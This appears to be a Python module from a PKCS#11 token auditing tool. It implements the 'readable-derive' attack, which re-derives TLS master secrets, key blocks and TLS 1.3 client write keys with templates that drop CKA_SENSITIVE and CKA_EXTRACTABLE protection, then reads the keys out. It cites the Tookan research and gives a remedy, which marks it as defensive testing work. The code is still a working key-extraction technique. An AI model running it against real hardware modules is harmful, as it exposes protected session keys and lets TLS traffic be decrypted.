"""readable-derive: the key again, this time not sensitive, because the template says so or says nothing."""

from collections.abc import Iterator, Mapping
from itertools import product
from typing import ClassVar, Final

from keyfence.cryptoki import CryptokiError, KeyMaterial, Mechanism
from keyfence.cryptoki.constants import CKK, CKM
from keyfence.cryptoki.params import Hkdf
from keyfence.cryptoki.session import secret_key
from keyfence.model import Chain, Key, Lengths, Readable, Slice, Stream, Window
from keyfence.schedule import HkdfLabel, Part, Side

from .base import Attack, Bench, Inconclusive, Offer, Technique
from .keymat import Cutter, KeyRequest, cutting, describe_cut
from .master import MASTER_BYTES, master_mechanism, master_parameters
from .opening import secret_layout
from .recovery import Master, Recovery, Source, StreamBytes
from .targets import VICTIM, Target, target_of
from .victim import Kind, Victim
from .wrapping import read

_ASKED: Final[Mapping[str, bool]] = {"sensitive": False, "extractable": True}
_MAY_LEAVE: Final[Mapping[str, bool]] = {"extractable": True}
_SILENT: Final[Mapping[str, bool]] = {"encrypt": True}  # CKA_SENSITIVE and CKA_EXTRACTABLE left out
_TEMPLATES: Final = (_ASKED, _MAY_LEAVE, _SILENT)
_READ: Final = "C_GetAttributeValue(CKA_VALUE), or C_WrapKey under a key of our own"


class ReadableDerive(Technique):
    id = "readable-derive"
    title = "Keys derived again as readable ones"
    summary = (
        "A derivation's template may ask for CKA_SENSITIVE false and CKA_EXTRACTABLE true, or leave both out. Where the module "
        "does not take protection from the base key, the same derivation gives the same key, readable."
    )
    section = "PKCS#11 3.2 §5.18 (C_DeriveKey), §6.39.4 and §6.40.4 (master keys), §6.39.6, §6.62.3"
    references = (
        "PKCS#11 3.2 §6.39.6 (key-and-MAC keys take CKA_SENSITIVE from the base key)",
        "Bortolozzo, Centenaro, Focardi, Steel, Attacking and Fixing PKCS#11 Security Tokens, CCS 2010 (Tookan)",
    )
    remedy = "What comes from a sensitive key is sensitive and not extractable, whatever the template says."
    kinds = frozenset({Kind.SSL3, Kind.TLS10, Kind.TLS12, Kind.TLS13, Kind.WTLS, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterator[Attack]:
        if victim.kind is Kind.TLS13:
            yield ReadableHkdf(victim)
            return
        yield ReadableMaster(victim)
        if victim.kind is not Kind.WTLS:
            yield from (ReadableKeyMat(victim, mechanism) for mechanism in cutting(victim))


class _OneCall(Attack):
    """A single derivation whose result is read: probed on a rehearsal secret, planned as one readable window."""

    def __init__(self, victim: Victim, mechanism: int) -> None:
        self.victim = victim
        self.mechanism = mechanism
        self._template: Mapping[str, bool] = _ASKED
        self._says_length = True

    lengths: ClassVar[tuple[bool, ...]] = (True,)
    """Whether to say CKA_VALUE_LEN, in the order to try; modules differ in whether they want it where it is fixed."""

    @property
    def requires(self) -> tuple[int, ...]:
        return (self.mechanism,)

    def probe(self, bench: Bench) -> Offer:
        """Which template makes a readable key, tried on a secret of our own."""
        base, refusals = self.own_base(bench), list[CryptokiError]()
        for template, says_length in product(_TEMPLATES, self.lengths):
            self._template, self._says_length = template, says_length
            try:
                with bench.session.scope():
                    self.derive(bench, base)
            except CryptokiError as refusal:
                refusals.append(refusal)
                continue
            return Offer(self.wanted, (self._window(),), tuple(refusals))
        return Offer(self.wanted, (), tuple(refusals))

    def _window(self) -> Window:
        wanted = self.wanted[-1]
        return Window("readable", wanted.stream, Readable(), Lengths.exactly(0), Lengths.exactly(wanted.stop))

    @property
    def wanted(self) -> tuple[Slice, ...]:
        raise NotImplementedError

    def own_base(self, bench: Bench) -> int:
        """A base key of our own, protected as the victim's is."""
        return bench.rehearsal(self.victim).handle

    def derive(self, bench: Bench, base: int) -> Recovery:
        """Derives from `base` and reads what came."""
        raise NotImplementedError


class ReadableKeyMat(_OneCall):
    """All four keys of the key block, by the suite's own shape."""

    @property
    def target(self) -> Target:
        return target_of(self.victim)

    @property
    def wanted(self) -> tuple[Slice, ...]:
        return self.target.slices

    def execute(self, bench: Bench, chain: Chain) -> Recovery:
        return self.derive(bench, self.target.secret)

    def derive(self, bench: Bench, base: int) -> Recovery:
        suite = self.victim.suite
        made = Cutter(bench, self.mechanism, self.victim).cut(base, self._request, suite.mac_key, 0, **self._template)
        if self.victim.kind is Kind.SEPARATED:
            raise Inconclusive("the classic cut of this master secret is allowed; no key of the session lies in that stream")
        known: dict[int, int] = {}
        for part, (start, stop) in secret_layout(self.victim).items():
            if start < stop:
                value = read(bench, _handle(made, part))
                known |= dict(zip(range(start, stop), value, strict=False))
        return StreamBytes(known, dict.fromkeys(known, Source.READABLE))

    @property
    def _request(self) -> KeyRequest:
        suite = self.victim.suite
        fixed = suite.ckk in (CKK.DES, CKK.DES2, CKK.DES3, CKK.CHACHA20)
        return KeyRequest.of(suite.ckk or CKK.GENERIC_SECRET, suite.cipher.material, fixed=fixed)

    def steps(self, chain: Chain) -> tuple[str, ...]:
        cut = describe_cut(self.mechanism, self._request, self.victim.suite.mac_key, 0)
        return (f"{cut[:-1]}, {_describe(self._template)})", f"{_READ}: each key")


def _handle(made: KeyMaterial, part: Part) -> int:
    handle = {
        Part.CLIENT_MAC: made.client_mac,
        Part.SERVER_MAC: made.server_mac,
        Part.CLIENT_KEY: made.client_key,
        Part.SERVER_KEY: made.server_key,
    }[part]
    if not handle:
        raise Inconclusive(f"the module answered CKR_OK and made no {part}")
    return handle


class ReadableMaster(_OneCall):
    """The master secret from the pre-master secret, readable."""

    key = "master secret"
    lengths = (False, True)

    def __init__(self, victim: Victim) -> None:
        super().__init__(victim, master_mechanism(victim.profile))

    @property
    def wanted(self) -> tuple[Slice, ...]:
        stream = Stream(VICTIM, "MASTER", self.victim.client_random + self.victim.server_random)
        return (Slice(stream, 0, self._length, Key.of(CKK.GENERIC_SECRET), "master secret"),)

    @property
    def _length(self) -> int:
        return 20 if self.victim.kind is Kind.WTLS else MASTER_BYTES

    def own_base(self, bench: Bench) -> int:
        """A pre-master secret made as the victim's was: modules check its type, its length and its version."""
        return bench.pre_master(self.victim)

    def execute(self, bench: Bench, chain: Chain) -> Recovery:
        return self.derive(bench, self.victim.handles.pre_master)

    def derive(self, bench: Bench, base: int) -> Recovery:
        length = self._length if self._says_length else None
        template = secret_key(CKK.GENERIC_SECRET, length, derive=True, **_without_encrypt(self._template))
        parameters = master_parameters(self.victim.profile, self.victim.client_random, self.victim.server_random)
        handle = bench.session.derive(Mechanism(self.mechanism, parameters), base, template).handle
        return Master(read(bench, handle))

    def steps(self, chain: Chain) -> tuple[str, ...]:
        name = str(CKM(self.mechanism))
        return (f"C_DeriveKey({name}, base = pre-master secret, {_describe(self._template)})", _READ)


class ReadableHkdf(_OneCall):
    """TLS 1.3's client write key, from the traffic secret by the honest label, readable."""

    key = "client write key"

    def __init__(self, victim: Victim) -> None:
        super().__init__(victim, CKM.HKDF_DERIVE)

    @property
    def target(self) -> Target:
        return target_of(self.victim)

    @property
    def wanted(self) -> tuple[Slice, ...]:
        return self.target.slices

    def execute(self, bench: Bench, chain: Chain) -> Recovery:
        return self.derive(bench, self.victim.handles.traffic[Side.CLIENT])

    def derive(self, bench: Bench, base: int) -> Recovery:
        length = self.target.length
        info = HkdfLabel(length, b"key", b"").encode()
        parameters = Hkdf(extract=False, expand=True, prf_hash=int(self.victim.prf_hash.ckm), info=info)
        template = secret_key(self.target.key_type, length, **self._template)
        handle = bench.session.derive(Mechanism(CKM.HKDF_DERIVE, parameters), base, template).handle
        return self.target.recovery(read(bench, handle), Source.READABLE)

    def steps(self, chain: Chain) -> tuple[str, ...]:
        return (
            f'C_DeriveKey(CKM_HKDF_DERIVE, expand, info = HkdfLabel("key"), {_describe(self._template)})',
            _READ,
        )


def _without_encrypt(template: Mapping[str, bool]) -> Mapping[str, bool]:
    return {name: value for name, value in template.items() if name != "encrypt"}


def _describe(template: Mapping[str, bool]) -> str:
    if template is _SILENT:
        return "CKA_SENSITIVE and CKA_EXTRACTABLE left out"
    return "CKA_EXTRACTABLE=TRUE" if template is _MAY_LEAVE else "CKA_SENSITIVE=FALSE, CKA_EXTRACTABLE=TRUE"
